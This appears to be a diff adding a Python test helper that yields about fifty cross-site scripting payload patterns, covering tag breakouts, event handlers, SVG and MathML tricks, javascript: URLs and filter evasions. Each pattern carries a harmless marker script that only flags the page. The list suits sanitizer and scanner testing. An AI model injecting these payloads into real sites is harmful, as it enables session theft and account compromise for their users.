@@ -1,0 +1,66 @@
+"""Ways to run a script in a page: each marks the document when a browser obeys it."""
+
+from collections.abc import Iterator
+
+RUN = "document.documentElement.setAttribute('data-owned','1')"
+_FRAMES = (
+    "<script>{js}</script>",
+    '"><script>{js}</script>',
+    "'><script>{js}</script>",
+    "</title><script>{js}</script>",
+    "</style><script>{js}</script>",
+    "</textarea><script>{js}</script>",
+    "</script><script>{js}</script>",
+    "--><script>{js}</script>",
+    "]]><script>{js}</script>",
+    "<scr<script>ipt>{js}</scr</script>ipt>",
+    "<SCRIPT\n>{js}</SCRIPT\t>",
+    "<script/x>{js}</script>",
+    "<script src='data:text/javascript,{js}'></script>",
+    "\x00<script>{js}</script>",
+    "<img src=x onerror={js}>",
+    '<img src="x" onerror="{js}">',
+    '" onmouseover="{js}" autofocus onfocus="{js}',
+    "' onfocus='{js}' autofocus tabindex='1",
+    "<svg onload={js}>",
+    "<svg/onload={js}>",
+    "<svg><script>{js}</script></svg>",
+    "<svg><animate onbegin={js} attributeName=x dur=1s>",
+    "<svg><set onbegin={js} attributename=x>",
+    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
+    "</svg><script>{js}</script>",
+    "<math><mtext><img src=x onerror={js}></mtext></math>",
+    "<body onload={js}>",
+    "<body onpageshow={js}>",
+    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
+    "<iframe src='javascript:parent.{js}'></iframe>",
+    "<iframe onload={js}></iframe>",
+    "<object data='javascript:{js}'></object>",
+    "<embed src='javascript:{js}'>",
+    "<a href='javascript:{js}'>x</a>",
+    "[x](javascript:{js})",
+    "<form action='javascript:{js}'><button autofocus>x</button></form>",
+    "<input autofocus onfocus={js}>",
+    "<select autofocus onfocus={js}></select>",
+    "<details open ontoggle={js}>",
+    "<video src=x onerror={js}>",
+    "<audio src=x onerror={js}>",
+    "<marquee onstart={js}>x</marquee>",
+    "<link rel=stylesheet href=x onerror={js}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
+    "<base href='javascript:/'><script src='x'></script>",
+    "<style onload={js}></style>",
+    "<style>@import 'javascript:{js}';</style>",
+    "<template><script>{js}</script></template><script>{js}</script>",
+    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
+    "<!--><img src=x onerror={js}>-->",
+    "&lt;script&gt;{js}&lt;/script&gt;",
+    "&#60;img src=x onerror={js}&#62;",
+    "${{{js}}}{{{{{js}}}}}<%={js}%>",
+)
+
+
+def payloads() -> Iterator[str]:
+    """Yield them, each once."""
+    for frame in _FRAMES:
+        yield frame.format(js=RUN)
